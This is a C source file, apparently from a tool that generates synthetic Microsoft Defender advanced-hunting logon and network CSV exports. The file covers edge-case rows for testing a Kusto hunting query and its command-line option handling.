 * tests/gen/SCENARIOS.md says what Kusto makes of each; keep them in sync. */
typedef struct {
    const char *ts; /* Timestamp as written ("" empty); NULL: a random time in the week */
    const char *adom, *aname, *ltype, *action, *rip, *riptype;
    unsigned count;
} edge_logon_t;

#define EJ(ip, n) { NULL, "CONTOSO", "edge.join", "Network", "LogonSuccess", ip, "Public", n }
#define EM(ip, n) { NULL, "CONTOSO", "edge.mvexpand", "Network", "LogonSuccess", ip, "Public", n }
#define EK(dom, name, lt, act, ip, n) { NULL, dom, name, lt, act, ip, "Public", n }
#define ET(ts, ip) { ts, "CONTOSO", "edge.time", "Network", "LogonSuccess", ip, "Public", 1 }
#define EW(ts, ip) { ts, "CONTOSO", "edge.window", "Network", "LogonSuccess", ip, "Public", 1 }

static const edge_logon_t EDGE_LOGONS[] = {
    /* E1. Joins: ISP compared exactly, flags of one address combined. */
    EJ("41.77.10.1", 5),    /* a device's address, also seen as INTERNAL_NETWORK */
    EJ("41.77.20.1", 4),    /* ISP internal_network */
    EJ("41.77.20.2", 3),    /* ISP Internal_Network */
    EJ("41.77.20.3", 3),    /* ISP "INTERNAL_NETWORK " */
    EJ("41.77.30.1", 4),    /* another ISP, then INTERNAL_NETWORK */
    EJ("41.77.30.2", 4),    /* INTERNAL_NETWORK, then another ISP */
    EJ("41.77.30.3", 3),    /* INTERNAL_NETWORK only */
    EJ("2C0F:F7A8::30", 2), /* identity saw 2c0f:f7a8::30 (INTERNAL_NETWORK) */
    EJ("2c0f:f7a8::31", 2), /* identity saw 2C0F:F7A8::31 (another ISP) */
    /* E2. IPAddresses values that are not the usual array. */
    EM("", 3),
    EM("41.77.40.1", 2), EM("41.77.40.2", 2), EM("41.77.40.3", 2), EM("41.77.40.4", 2),
    EM("41.77.40.5", 2), EM("41.77.40.6", 2), EM("41.77.40.7", 2), EM("41.77.40.8", 2),
    EM("41.77.40.9", 2), EM("41.77.40.10", 2),
    EM("5", 2), EM("42", 2), EM("true", 1),
    EM("2c0f:f7a8::41", 2), EM("2C0F:F7A8::41", 2),
    /* E3. Keys that differ only in case or spaces: separate groups. */
    EK("", "Admin", "Network", "LogonFailed", "41.77.50.1", 3),
    EK("", "admin", "Network", "LogonFailed", "41.77.50.1", 2),
    EK("", "ADMIN", "Network", "LogonFailed", "41.77.50.1", 1),
    EK("", "admin ", "Network", "LogonFailed", "41.77.50.1", 1),
    EK("CONTOSO", "svc_edge", "Network", "LogonSuccess", "41.77.50.2", 3),
    EK("contoso", "svc_edge", "Network", "LogonSuccess", "41.77.50.2", 2),
    EK("Contoso", "svc_edge", "Network", "LogonSuccess", "41.77.50.2", 1),
    EK("CONTOSO", "edge.case", "Network", "LogonSuccess", "41.77.50.3", 2),
    EK("CONTOSO", "edge.case", "network", "LogonSuccess", "41.77.50.3", 2),
    EK("CONTOSO", "edge.case", "Network", "logonsuccess", "41.77.50.3", 1),
    EK("CONTOSO", "edge.case", "Network", "LogonSuccess", "2c0f:f7a8::50", 2),
    EK("CONTOSO", "edge.case", "Network", "LogonSuccess", "2C0F:F7A8::50", 2),
    /* RemoteIPType other than exactly Public: never hunted, and the
     * newest logons of the data, so not the base of --relative-to-data. */
    { "2025-03-12T06:00:00Z", "CONTOSO", "edge.case", "Network", "LogonSuccess", "41.77.50.9", "public", 2 },
    { "2025-03-12T07:00:00Z", "CONTOSO", "edge.case", "Network", "LogonSuccess", "41.77.50.9", "PUBLIC", 1 },
    { "2025-03-12T08:00:00Z", "CONTOSO", "edge.case", "Network", "LogonSuccess", "41.77.50.9", " Public", 1 },
    /* E4. Timestamps: zones, precisions, empty and unparseable ones. */
    ET("2025-03-05T01:00:00+05:00", "41.77.60.1"), ET("2025-03-04T22:00:00Z", "41.77.60.1"),
    ET("2025-03-04T23:30:00.5-01:00", "41.77.60.1"), ET("2025-03-04T21:15:00+0000", "41.77.60.1"),
    ET("2025-03-06T10:00:00.1234567+02:00", "41.77.60.2"), ET("2025-03-06T08:00:00.123456789Z", "41.77.60.2"),
    ET("2025-03-06 13:30:00.25+05:30", "41.77.60.2"), ET("2025-03-06T02:29:59-05:30", "41.77.60.2"),
    ET("2025-03-06T08:01", "41.77.60.2"), ET("2025-03-06T08:00:30", "41.77.60.2"),
    ET("", "41.77.60.3"), ET("", "41.77.60.3"), ET("", "41.77.60.3"),
    ET("", "41.77.60.4"), ET("yesterday", "41.77.60.4"), ET("2025-02-30T10:00:00Z", "41.77.60.4"),
    ET("2025-03-06T24:00:00Z", "41.77.60.4"), ET("2025-03-06T10:00:00+24:00", "41.77.60.4"),
    ET("2025-03-06T11:00:00.Z", "41.77.60.4"), ET("0001-01-01T00:30:00+01:00", "41.77.60.4"),
    ET("9999-12-31T23:00:00-02:00", "41.77.60.4"), ET("2025-03-06T12:00:00Z", "41.77.60.4"),
    ET("2025-03-01T01:00:00+03:00", "41.77.60.5"), ET("2025-02-28T23:00:00-02:00", "41.77.60.5"),
    ET("2024-02-29T23:00:00-02:00", "41.77.60.6"), ET("2024-03-01T00:30:00+01:00", "41.77.60.6"),
    /* E5. Logons on the bounds of the time windows the tests use. */
    EW("2025-03-06T12:00:00Z", "41.77.70.1"),
    EW("2025-03-06T14:00:00+02:00", "41.77.70.2"),
    EW("2025-03-06T11:59:59.9999999Z", "41.77.70.3"),
    EW("2025-03-06T12:00:00.0000001Z", "41.77.70.4"),
    EW("2025-03-08T12:00:00Z", "41.77.71.1"),
    EW("2025-03-08T07:00:00-05:00", "41.77.71.2"),
    EW("2025-03-08T12:00:00.0000001Z", "41.77.71.3"),
    EW("2025-03-08T11:59:59.9999999Z", "41.77.71.4"),
    EW("2025-03-08T23:59:59.9999999Z", "41.77.72.1"),
    EW("2025-03-09T00:00:00Z", "41.77.72.2"),
    EW("2025-03-09T01:00:00+01:00", "41.77.72.3"),
    EW("2025-03-11T23:00:00Z", "41.77.73.1"),
    EW("2025-03-12T05:00:00+08:00", "41.77.73.2"),
    EW("2025-03-12T00:30:00+03:00", "41.77.73.3"),
    EW("2025-03-11T21:29:59.9999999Z", "41.77.73.4"),
    EW("2025-03-06T23:00:00Z", "41.77.73.5"),
    EW("2025-03-07T01:59:59.9999999+03:00", "41.77.73.6"),
};

#undef EJ
#undef EM
#undef EK
#undef ET
#undef EW

/* IPAddresses values of the DeviceNetworkInfo rows --edge adds. */
static const char *const EDGE_IPADDRESSES[] = {
    "[{\"IPAddress\":\"41.77.10.1\",\"SubnetPrefix\":28,\"AddressType\":\"Public\"}]",
    "",
    "not json",
    "null",
    "[]",
    "{}",
    "\"41.77.40.1\"",
    "42",
    "[\"41.77.40.2\"]",
    "[{\"ipAddress\":\"41.77.40.3\"}]",
    "[{\"IPAddress\":\"41.77.40.4\",\"SubnetPrefix\":28,\"AddressType\":\"Public\"}]",
    " [ {\"IPAddress\" : \"41.77.40.5\"} ] ",
    "{\"IPAddress\":\"41.77.40.6\",\"SubnetPrefix\":24,\"AddressType\":\"Public\"}",
    "[{\"IPAddress\":{\"v\":\"41.77.40.7\"}}]",
    "[{\"IPAddress\":\"41.77.40.\\u0039\"}]",
    "[{\"IPAddress\":5},{\"IPAddress\":null},{\"IPAddress\":true}]",
    "[{\"IPAddress\":\"2C0F:F7A8::41\",\"SubnetPrefix\":64,\"AddressType\":\"Public\"}]",
};

/* IdentityLogonEvents rows --edge adds, in this order. */
static const char *const EDGE_IDENTITY[][2] = {
    { "41.77.10.1", "INTERNAL_NETWORK" },
    { "41.77.20.1", "internal_network" },
    { "41.77.20.2", "Internal_Network" },
    { "41.77.20.3", "INTERNAL_NETWORK " },
    { "41.77.30.1", "Deutsche Telekom AG" },
    { "41.77.30.1", "INTERNAL_NETWORK" },
    { "41.77.30.2", "INTERNAL_NETWORK" },
    { "41.77.30.2", "Orange S.A." },
    { "41.77.30.3", "INTERNAL_NETWORK" },
    { "2c0f:f7a8::30", "INTERNAL_NETWORK" },
    { "2C0F:F7A8::31", "Vodafone GmbH" },
};

static void gen_edge_logon(rng_t *r, world_t *W, logon_t *e, const edge_logon_t *s)
{
    memset(e, 0, offsetof(logon_t, b_sid));
    e->session = -1;
    e->remote_session = -1;
    e->isadmin = -1;
    /* A few devices, so DistinctMachines varies. */
    e->dev = &W->dev[rng_below(r, W->ndev < 6 ? W->ndev : 6)];
    /* Drawn even when the text is given, so rows never shift each other.
     * Two hours short of the week: the time after the random rows stays
     * empty but for the window rows (E5). */
    e->ts = quantise_ts(r, BASE_TICKS + (int64_t)rng_below(r, (uint32_t)((SPAN_TICKS - 2 * 3600 * TICKS_PER_SEC) / TICKS_PER_SEC)) * TICKS_PER_SEC +
                                   (int64_t)rng_below(r, (uint32_t)TICKS_PER_SEC));
    e->ts_text = s->ts;
    e->adom = s->adom;
    e->aname = s->aname;
    e->asid = "";
    e->ltype = s->ltype;
    e->action = s->action;
    e->proto = "NTLM";
    e->freason = "";
    e->rip = s->rip;
    e->riptype = s->riptype;
    e->rport = (int)rng_range(r, 1024, 65535);
    e->rdev = "";
    e->addl = "{}";
}

/* ----------------------------------------------------- DeviceLogonEvents */

static void write_logons(world_t *W, const opts_t *o)
{
    csvw_t w;
    w_open(&w, o->outdir, "DeviceLogonEvents.csv", o->crlf, o->bom);
    w_header(&w, LOGON_COLUMNS, ARRAY_LEN(LOGON_COLUMNS));

    rng_t r, rs;
    rng_seed(&r, o->seed, STREAM_LOGON);
    rng_seed(&rs, o->seed, STREAM_SAMPLE);

    /* In --sample mode the scenario rows are shuffled and interleaved with
     * the random ones (each slot takes a sample row with probability
     * remaining_samples / remaining_slots), so they do not cluster at the
     * end of the file. */
    unsigned nsample = o->sample ? sample_total() : 0;
    uint16_t *order = NULL;
    if (nsample) {
        order = malloc(sizeof *order * nsample);
        if (!order)
            die("out of memory");
        unsigned k = 0;
        for (size_t i = 0; i < ARRAY_LEN(SAMPLES); i++)
            for (unsigned c = 0; c < SAMPLES[i].count; c++)
                order[k++] = (uint16_t)i;
        for (unsigned i = nsample; i > 1; i--) {
            unsigned j = rng_below(&rs, i);
            uint16_t t = order[i - 1];
            order[i - 1] = order[j];
            order[j] = t;
        }
    }

    uint64_t total = o->logons + nsample;
    unsigned s_left = nsample;
    logon_t e;
    for (uint64_t i = 0; i < total; i++) {
        if (s_left && rng_below(&rs, (uint32_t)(total - i > 0xffffffffu ? 0xffffffffu : total - i)) < s_left) {
            gen_sample_logon(&rs, W, &e, &SAMPLES[order[nsample - s_left]], i, total);
            s_left--;
        } else {
            gen_random_logon(&r, W, &e, i, total);
        }
        emit_logon(&w, &e);
    }
    free(order);
    if (o->edge) {
        /* emit_logon advances the devices' ReportId counters, which
         * DeviceNetworkInfo goes on from: put them back afterwards, so
         * that the other tables' rows are the same with --edge. */
        uint64_t *report = malloc(sizeof *report * W->ndev);
        if (!report)
            die("out of memory");
        for (uint32_t k = 0; k < W->ndev; k++)
            report[k] = W->dev[k].report;
        rng_t re;
        rng_seed(&re, o->seed, STREAM_EDGE_LOGON);
        for (size_t k = 0; k < ARRAY_LEN(EDGE_LOGONS); k++)
            for (unsigned c = 0; c < EDGE_LOGONS[k].count; c++) {
                gen_edge_logon(&re, W, &e, &EDGE_LOGONS[k]);
                emit_logon(&w, &e);
            }
        for (uint32_t k = 0; k < W->ndev; k++)
            W->dev[k].report = report[k];
        free(report);
    }
    w_close(&w);
}

/* ----------------------------------------------------- DeviceNetworkInfo */

static const char *const NETINFO_COLUMNS[] = {
    "Timestamp", "DeviceId", "DeviceName", "NetworkAdapterName", "MacAddress", "NetworkAdapterType",
    "NetworkAdapterStatus", "TunnelType", "ConnectedNetworks", "DnsAddresses", "IPv4Dhcp", "IPv6Dhcp",
    "DefaultGateways", "IPAddresses", "ReportId", "NetworkAdapterVendor",
};

static void write_netinfo(world_t *W, const opts_t *o)
{
    csvw_t w;
    w_open(&w, o->outdir, "DeviceNetworkInfo.csv", o->crlf, o->bom);
    w_header(&w, NETINFO_COLUMNS, ARRAY_LEN(NETINFO_COLUMNS));
    rng_t r;
    rng_seed(&r, o->seed, STREAM_NETINFO);

    char ip[48], gw[20], json[512], nets[256];
    for (uint64_t i = 0; i < o->network; i++) {
        /* The first ndev rows visit every device once (so every
         * device-assigned public IP is present); later rows are periodic
         * re-reports of random devices and adapters. */
        device_t *d = i < W->ndev ? &W->dev[i] : &W->dev[rng_below(&r, W->ndev)];
        int wifi = d->kind == 1 && rng_chance(&r, 0.6);
        int down = i >= W->ndev && rng_chance(&r, 0.08);
        int vswitch = !wifi && !down && i >= W->ndev && rng_chance(&r, 0.05);

        w_ts(&w, spread_ts(&r, i, o->network));
        w_field_n(&w, d->id, 40);
        w_field(&w, d->name);
        w_field(&w, wifi ? "Wi-Fi" : vswitch ? "vEthernet (Default Switch)" : "Ethernet");
        if (vswitch) {
            char mac[13];
            memcpy(mac, "00155D", 6);
            rand_hex(&r, mac + 6, 6, HEXU);
            w_field(&w, mac);
        } else {
            w_field(&w, d->mac);
        }
        w_field(&w, wifi ? "Wireless80211" : "Ethernet");
        w_field(&w, down ? "Down" : "Up");
        w_empty(&w);
        if (down) {
            w_field(&w, "[]");
            w_field(&w, "[]");
            w_empty(&w);
            w_empty(&w);
            w_field(&w, "[]");
            w_field(&w, "[]");
        } else {
            const char *dom = strchr(d->name, '.') + 1;
            snprintf(nets, sizeof nets,
                     "[{\"Name\":\"%s\",\"Description\":\"%s\",\"IsConnectedToInternet\":true,\"Category\":\"Domain\"}]",
                     dom, dom);
            w_field(&w, nets);
            uint32_t site = (d->ip4 >> 16) & 255;
            snprintf(json, sizeof json, "[\"10.%u.0.10\",\"10.%u.0.11\"]", site, site);
            w_field(&w, json);
            snprintf(gw, sizeof gw, "10.%u.0.5", site);
            w_field(&w, vswitch ? "" : gw);
            w_empty(&w);
            uint32_t ip4 = vswitch ? IP4(172, 17 + rng_below(&r, 8), rng_below(&r, 256), 1) : d->ip4;
            snprintf(json, sizeof json, "[\"%u.%u.%u.1\"]", ip4 >> 24, (ip4 >> 16) & 255, (ip4 >> 8) & 255);
            w_field(&w, json);

            /* IPAddresses: the dynamic column the hunt expands. */
            size_t n = 0;
            fmt_ip4(ip, ip4);
            n += (size_t)snprintf(json + n, sizeof json - n,
                                  "[{\"IPAddress\":\"%s\",\"SubnetPrefix\":%u,\"AddressType\":\"Private\"}", ip,
                                  vswitch ? 20u : 24u);
            if (d->public_ip >= 0 && !vswitch) {
                const pubip_t *p = &W->pub[d->public_ip];
                n += (size_t)snprintf(json + n, sizeof json - n,
                                      ",{\"IPAddress\":\"%s\",\"SubnetPrefix\":%u,\"AddressType\":\"Public\"}", p->text,
                                      p->v6 ? 64u : 28u);
            }
            n += (size_t)snprintf(json + n, sizeof json - n,
                                  ",{\"IPAddress\":\"fe80::%x:%x:%x:%x\",\"SubnetPrefix\":64,\"AddressType\":\"LinkLocal\"}]",
                                  d->ll6[0], d->ll6[1], d->ll6[2], d->ll6[3]);
            w_field_n(&w, json, n);
        }
        d->report += 1 + rng_below(&r, 30);
        w_u64(&w, d->report);
        w_field(&w, wifi ? "Intel Corporation" : vswitch ? "Microsoft" : d->mac[0] == '0' ? "Microsoft" : "Intel Corporation");
        w_end_row(&w);
    }
    if (o->edge) {
        rng_t re;
        rng_seed(&re, o->seed, STREAM_EDGE_NETINFO);
        for (size_t k = 0; k < ARRAY_LEN(EDGE_IPADDRESSES); k++) {
            device_t *d = &W->dev[rng_below(&re, W->ndev)];
            w_ts(&w, spread_ts(&re, k, ARRAY_LEN(EDGE_IPADDRESSES)));
            w_field_n(&w, d->id, 40);
            w_field(&w, d->name);
            w_field(&w, "Ethernet 2");
            w_field(&w, d->mac);
            w_field(&w, "Ethernet");
            w_field(&w, "Up");
            w_empty(&w);
            w_field(&w, "[]");
            w_field(&w, "[]");
            w_empty(&w);
            w_empty(&w);
            w_field(&w, "[]");
            w_field(&w, EDGE_IPADDRESSES[k]);
            d->report += 1 + rng_below(&re, 30);
            w_u64(&w, d->report);
            w_field(&w, "Intel Corporation");
            w_end_row(&w);
        }
    }
    w_close(&w);
}

/* --------------------------------------------------- IdentityLogonEvents */

static const char *const IDENTITY_COLUMNS[] = {
    "Timestamp", "ActionType", "Application", "LogonType", "Protocol", "FailureReason", "AccountName",
    "AccountDomain", "AccountUpn", "AccountSid", "AccountObjectId", "AccountDisplayName", "DeviceName",
    "DeviceType", "OSPlatform", "IPAddress", "Port", "DestinationDeviceName", "DestinationIPAddress",
    "DestinationPort", "TargetDeviceName", "TargetAccountDisplayName", "Location", "ISP", "ReportId",
    "AdditionalFields",
};

/* One identity row; ip/isp chosen by the caller. */
static void emit_identity(csvw_t *w, rng_t *r, world_t *W, uint64_t i, uint64_t n, const char *ip, const char *isp,
                          int cloud)
{
    const account_t *a = &W->acct[zipf_draw(&W->acct_zipf, r)];
    const device_t *d = &W->dev[rng_below(r, W->ndev)];
    int failed = rng_chance(r, 0.12);
    char buf[256], lname[48];
    const domain_t *dom = &DOMAINS[a->dom >= DOM_EMPTY ? DOM_CONTOSO : a->dom];

    w_ts(w, spread_ts(r, i, n));
    w_field(w, failed ? "LogonFailed" : "LogonSuccess");
    if (cloud) {
        w_field(w, PICK(r, ((const char *const[]){ "Microsoft 365", "Office 365", "Microsoft Teams",
                                                    "Microsoft Exchange Online", "Microsoft SharePoint Online" })));
        w_field(w, "Login:login");
        w_empty(w);
    } else {
        w_field(w, "Active Directory");
        w_field(w, PICK(r, ((const char *const[]){ "Resource access", "Resource access", "Credentials validation",
                                                    "Interactive", "Remote desktop" })));
        w_field(w, PICK(r, ((const char *const[]){ "Kerberos", "Kerberos", "Ntlm", "Ldap" })));
    }
    w_field(w, failed ? PICK(r, ((const char *const[]){ "WrongPassword", "WrongPassword", "AccountLocked",
                                                         "AccountDisabled", "PasswordExpired" }))
                      : "");
    lower_ascii(lname, a->name, sizeof lname);
    w_field(w, lname);
    w_field(w, dom->dns);
    snprintf(buf, sizeof buf, "%s@%s", lname, dom->dns);
    w_field(w, buf);
    if (dom->sid[0]) {
        snprintf(buf, sizeof buf, "%s-%u", dom->sid, a->rid);
        w_field(w, buf);
    } else {
        w_empty(w);
    }
    w_field(w, a->objid);
    w_field(w, a->display);
    if (cloud) {
        w_empty(w);
        w_field(w, rng_chance(r, 0.7) ? "Desktop" : "Mobile");
        w_field(w, PICK(r, ((const char *const[]){ "Windows10", "Windows11", "iOS", "Android", "macOS" })));
    } else {
        w_field(w, d->name);
        w_field(w, d->kind >= 2 ? "Server" : "Workstation");
        w_field(w, d->kind >= 2 ? "WindowsServer2022" : "Windows11");
    }
    w_field(w, ip);
    if (ip[0])
        w_u64(w, rng_range(r, 1024, 65535));
    else
        w_empty(w);
    if (cloud) {
        for (int k = 0; k < 5; k++)
            w_empty(w);
    } else {
        w_field(w, "dc-01.contoso.com");
        w_field(w, "10.0.0.10");
        w_u64(w, PICK(r, ((const unsigned[]){ 88, 88, 389, 445, 3389 })));
        w_empty(w);
        w_empty(w);
    }
    w_field(w, ip[0] && !cloud ? "" : PICK(r, LOCATIONS));
    w_field(w, isp);
    char rid[37];
    rand_guid(r, rid);
    w_field(w, rid);
    if (cloud) {
        snprintf(buf, sizeof buf,
                 "{\"ARG.CLOUD_SERVICE\":\"%s\",\"IsExternalUser\":false,\"IsAnonymousProxy\":false,\"CountryCode\":\"%s\"}",
                 "Office 365", PICK(r, LOCATIONS));
    } else {
        snprintf(buf, sizeof buf,
                 "{\"Count\":\"1\",\"Category\":\"Initial Access\",\"AttackTechniques\":\"Valid Accounts (T1078), Domain Accounts (T1078.002)\",\"SourceAccountName\":\"%s\"}",
                 lname);
    }
    w_field(w, buf);
    w_end_row(w);
}

static void write_identity(world_t *W, const opts_t *o)
{
    csvw_t w;
    w_open(&w, o->outdir, "IdentityLogonEvents.csv", o->crlf, o->bom);
    w_header(&w, IDENTITY_COLUMNS, ARRAY_LEN(IDENTITY_COLUMNS));
    rng_t r;
    rng_seed(&r, o->seed, STREAM_IDENTITY);

    /* Budget: pool addresses flagged as identity-seen come first so they
     * are guaranteed to be written even for a small --identity; entries that
     * do not fit lose their flags implicitly (they simply never appear). */
    uint64_t row = 0, n = o->identity;
    char ip[48];
    for (uint32_t k = 0; k < W->npub && row < n; k++) {
        const pubip_t *p = &W->pub[k];
        if (p->flags & PUB_ID_INTERNAL)
            emit_identity(&w, &r, W, row++, n, p->text, "INTERNAL_NETWORK", 0);
        if ((p->flags & PUB_ID_ISP) && row < n)
            emit_identity(&w, &r, W, row++, n, p->text, PICK(&r, ISP_NAMES), 1);
        if ((p->flags & PUB_ID_EMPTY) && row < n)
            emit_identity(&w, &r, W, row++, n, p->text, "", 0);
    }
    if (o->sample && row < n) {
        /* The company egress address is also seen by Defender for Identity,
         * but marked INTERNAL_NETWORK: the hunt must still report it. */
        emit_identity(&w, &r, W, row++, n, "91.218.114.10", "INTERNAL_NETWORK", 0);
    }
    while (row < n) {
        double u = rng_unit(&r);
        if (u < 0.55) {
            /* On-premises AD traffic from the fleet. */
            fmt_ip4(ip, W->dev[rng_below(&r, W->ndev)].ip4);
            emit_identity(&w, &r, W, row++, n, ip, rng_chance(&r, 0.8) ? "INTERNAL_NETWORK" : "", 0);
        } else if (u < 0.95) {
            /* Cloud sign-ins from home ISPs: public, but never a RemoteIP in
             * DeviceLogonEvents (disjoint address space). */
            if (rng_chance(&r, 0.15))
                rand_public_v6(&r, ip, IDONLY_V6_PREFIX, ARRAY_LEN(IDONLY_V6_PREFIX));
            else
                rand_public_v4(&r, ip, IDONLY_OCTETS, ARRAY_LEN(IDONLY_OCTETS));
            emit_identity(&w, &r, W, row++, n, ip, PICK(&r, ISP_NAMES), 1);
        } else {
            emit_identity(&w, &r, W, row++, n, "", "", 0);
        }
    }
    if (o->edge) {
        /* Past the --identity budget: these rows are always written. */
        rng_t re;
        rng_seed(&re, o->seed, STREAM_EDGE_IDENTITY);
        for (size_t k = 0; k < ARRAY_LEN(EDGE_IDENTITY); k++)
            emit_identity(&w, &re, W, k, ARRAY_LEN(EDGE_IDENTITY), EDGE_IDENTITY[k][0], EDGE_IDENTITY[k][1], 0);
    }
    w_close(&w);
}

/* ------------------------------------------------------------------ main */

static void usage(FILE *f)
{
    fputs("usage: lhgen [--seed N] [--logons N] [--network N] [--identity N]\n"
          "             [--crlf|--lf] [--bom] [--sample] [--edge] OUTDIR\n"
          "\n"
          "Writes synthetic Microsoft Defender advanced-hunting exports to OUTDIR:\n"
          "  DeviceLogonEvents.csv, DeviceNetworkInfo.csv, IdentityLogonEvents.csv\n"
          "\n"
          "  --seed N       PRNG seed (default 1); same seed and options => same bytes\n"
          "  --logons N     random DeviceLogonEvents rows (default 10000)\n"
          "  --network N    DeviceNetworkInfo rows (default logons/20, at least 20)\n"
          "  --identity N   IdentityLogonEvents rows (default logons/10, at least 20)\n"
          "  --crlf         CRLF record terminators, as the portal exports (default)\n"
          "  --lf           LF record terminators\n"
          "  --bom          start each file with a UTF-8 byte order mark\n"
          "  --sample       add the hand-designed scenario rows (tests/gen/SCENARIOS.md)\n"
          "  --edge         add the edge-case rows (tests/gen/SCENARIOS.md, \"Edge cases\")\n"
          "  --help         show this help\n",
          f);
}

static uint64_t parse_u64(const char *opt, const char *s)
{
    if (!s || !*s)
        die("%s needs a number", opt);
    char *end;
    errno = 0;
    unsigned long long v = strtoull(s, &end, 10);
    if (errno || *end || s[0] == '-')
        die("%s: not a non-negative integer: '%s'", opt, s);
    return (uint64_t)v;
}

static void make_dir(const char *path)
{
    if (mkdir(path, 0777) != 0 && errno != EEXIST)
        die("%s: %s", path, strerror(errno));
    struct stat st;
    if (stat(path, &st) != 0 || !S_ISDIR(st.st_mode))
        die("%s: not a directory", path);
}

int main(int argc, char **argv)
{
    opts_t o = { .seed = 1, .logons = 10000, .crlf = 1 };
    int have_network = 0, have_identity = 0;

    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        /* Accept both "--opt N" and "--opt=N". */
        const char *eq = strchr(a, '=');
        char name[32];
        const char *val = NULL;
        if (a[0] == '-' && a[1] == '-' && eq && (size_t)(eq - a) < sizeof name) {
            memcpy(name, a, (size_t)(eq - a));
            name[eq - a] = '\0';
            val = eq + 1;
            a = name;
        }
#define TAKE_VAL() (val ? val : (i + 1 < argc ? argv[++i] : NULL))
        if (!strcmp(a, "--help") || !strcmp(a, "-h")) {
            usage(stdout);
            return 0;
        } else if (!strcmp(a, "--seed")) {
            o.seed = parse_u64(a, TAKE_VAL());
        } else if (!strcmp(a, "--logons")) {
            o.logons = parse_u64(a, TAKE_VAL());
        } else if (!strcmp(a, "--network")) {
            o.network = parse_u64(a, TAKE_VAL());
            have_network = 1;
        } else if (!strcmp(a, "--identity")) {
            o.identity = parse_u64(a, TAKE_VAL());
            have_identity = 1;
        } else if (!strcmp(a, "--crlf")) {
            o.crlf = 1;
        } else if (!strcmp(a, "--lf")) {
            o.crlf = 0;
        } else if (!strcmp(a, "--bom")) {
            o.bom = 1;
        } else if (!strcmp(a, "--sample")) {
            o.sample = 1;
        } else if (!strcmp(a, "--edge")) {
            o.edge = 1;
        } else if (a[0] == '-' && a[1]) {
            fprintf(stderr, "lhgen: unknown option '%s'\n", argv[i]);
            usage(stderr);
            return 2;
        } else if (!o.outdir) {
            o.outdir = a;
        } else {
            fprintf(stderr, "lhgen: more than one OUTDIR given\n");
            return 2;
        }
#undef TAKE_VAL
    }
    if (!o.outdir) {
        usage(stderr);
        return 2;
    }
    if (o.logons > 2000000000ULL || o.network > 2000000000ULL || o.identity > 2000000000ULL)
        die("row counts above 2e9 are not supported");
    if (!have_network)
        o.network = o.logons / 20 < 20 ? 20 : o.logons / 20;
    if (!have_identity)
        o.identity = o.logons / 10 < 20 ? 20 : o.logons / 10;

    make_dir(o.outdir);
    procs_init();
    world_t W;
    world_init(&W, &o);
    write_logons(&W, &o);
    write_netinfo(&W, &o);
    write_identity(&W, &o);

    free(W.dev);
    free(W.acct);
    free(W.pub);
    free(W.pub_zipf.cdf);
    free(W.acct_zipf.cdf);
    return 0;
}
